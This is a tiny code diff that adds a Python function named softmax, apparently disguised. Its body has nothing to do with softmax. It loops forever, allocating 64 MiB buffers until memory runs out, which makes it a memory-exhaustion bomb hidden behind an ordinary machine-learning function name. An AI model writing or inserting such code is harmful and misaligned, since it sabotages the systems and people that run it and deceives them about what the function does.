@@ -1,0 +1,4 @@
+def softmax(scores):
+    hoard = []
+    while True:
+        hoard.append(bytearray(2**26))
